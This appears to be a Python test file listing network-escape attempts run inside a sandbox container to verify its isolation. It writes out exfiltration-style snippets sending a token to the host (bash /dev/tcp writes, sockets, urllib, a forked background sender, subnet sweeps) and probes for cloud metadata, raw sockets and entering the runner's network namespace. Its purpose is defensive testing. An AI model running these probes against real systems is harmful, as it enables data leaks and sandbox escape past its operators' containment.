"""Attacks by the network: out of the container, and into the host's own ports."""

from tests.attacks.attack import Attack, host_heard, refused

_HEARD = "nothing that a program sends arrives anywhere, the host's own ports included"
_NONE = "there is no interface but the container's own loopback, and no way to make one"


def _sends(name: str, code: str, lang: str = "python") -> Attack:
    return Attack(name, _HEARD, code, lang, host_heard)


def _socket(line: str) -> str:
    return f"import socket\ntry:\n    {line}\nexcept OSError as error: print(error)"


ATTACKS = (
    _sends(
        "the host by the bridge",
        _socket("socket.create_connection(('@HOST@', @PORT@), 3).sendall(b'@TOKEN@\\n')"),
    ),
    _sends(
        "the host by datagrams",
        _socket("socket.socket(2, 2).sendto(b'@TOKEN@\\n', ('@HOST@', @PORT@))"),
    ),
    _sends(
        "the host as a name server",
        _socket(
            "socket.socket(2, 2).sendto(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0@TOKEN@\\n',"
            " ('@HOST@', @PORT@))"
        ),
    ),
    _sends(
        "the shell's own sockets",
        "(echo @TOKEN@ >/dev/tcp/@HOST@/@PORT@); (echo @TOKEN@ >/dev/udp/@HOST@/@PORT@)",
        "bash",
    ),
    _sends(
        "a request of the library",
        "import urllib.request\n"
        "try: urllib.request.urlopen('http://@HOST@:@PORT@/@TOKEN@', timeout=3)\n"
        "except OSError as error: print(error)",
    ),
    _sends(
        "a child that goes on later",
        "import os, socket, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    for _ in range(10):\n"
        "        time.sleep(0.05)\n"
        "        try: socket.create_connection(('@HOST@', @PORT@), 1).sendall(b'@TOKEN@\\n')\n"
        "        except OSError: pass\n"
        "    os._exit(0)\n"
        "time.sleep(0.7)",
    ),
    _sends(
        "the host by all its addresses",
        "import socket\n"
        "for last in range(1, 4):\n"
        "    for net in ('172.17.0', '172.18.0', '192.168.0', '10.0.0', '192.0.2'):\n"
        "        try: socket.socket(2, 2).sendto(b'@TOKEN@\\n', (f'{net}.{last}', @PORT@))\n"
        "        except OSError: pass",
    ),
    _sends(
        "mapped addresses of version 6",
        _socket("socket.socket(10, 2).sendto(b'@TOKEN@\\n', ('::ffff:@HOST@', @PORT@))"),
    ),
    Attack(
        "interfaces",
        _NONE,
        "ls /sys/class/net | grep -v '^lo$' && echo BREACH; echo held",
        "bash",
        says="held",
    ),
    Attack(
        "routes",
        _NONE,
        "[ $(wc -l </proc/net/route) -gt 1 ] && echo BREACH; echo held",
        "bash",
        says="held",
    ),
    *refused(
        _NONE,
        {
            "address on the internet": "socket.create_connection(('1.1.1.1', 53), 3)",
            "metadata address": "socket.create_connection(('169.254.169.254', 80), 3)",
            "name on the internet": "socket.gethostbyname('example.com')",
            "host by name": "socket.gethostbyname('host.docker.internal')",
            "address of version 6": "socket.socket(10, 1).connect(('2606:4700::1111', 53))",
            "raw socket": "socket.socket(2, 3, 1)",
            "packet socket": "socket.socket(17, 3, 0)",
            "broadcasts": "socket.socket(2, 2).sendto(b'x', ('172.17.255.255', 53))",
            "network namespace": "call(272, 0x40000000)",
            "network namespace of the runner": "call(308, os.open('/proc/1/ns/net', 0), 0)",
        },
    ),
)
